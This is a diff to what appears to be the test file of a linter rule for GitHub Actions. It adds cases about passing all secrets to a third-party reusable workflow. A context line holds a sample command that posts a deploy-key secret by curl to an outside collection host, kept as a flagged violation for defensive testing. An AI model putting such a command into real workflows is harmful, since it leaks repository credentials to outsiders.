@@ -95,6 +95,14 @@ rule = Rule.of(
                       curl -d "k=${{ secrets.DEPLOY_KEY }}" https://collect.acme.dev  # <-
                       echo "${{ secrets.DEPLOY_KEY }}" | rev  # <-
             """,
+            ".github/workflows/called.yml": """
+            on: push
+            permissions: {}
+            jobs:
+              d:
+                uses: somebody/workflows/.github/workflows/deploy.yml@v3
+                secrets: inherit  # <-
+            """,
             ".github/workflows/plain.yml": """
             on: push  # <-
             jobs:
@@ -136,6 +144,11 @@ rule = Rule.of(
                   - run: |
                       curl -H "Authorization: Bearer ${{ secrets.DEPLOY_KEY }}" https://api.acme.dev/deploy
                       echo "${{ secrets.KEY_FILE }}" | base64 -d > key
+            """,
+            ".github/workflows/called.yml": """
+            on: push
+            permissions: {}
+            jobs: {d: {uses: ./.github/workflows/deploy.yml, secrets: inherit}}
             """,
             ".github/workflows/label.yml": """
             on: pull_request_target
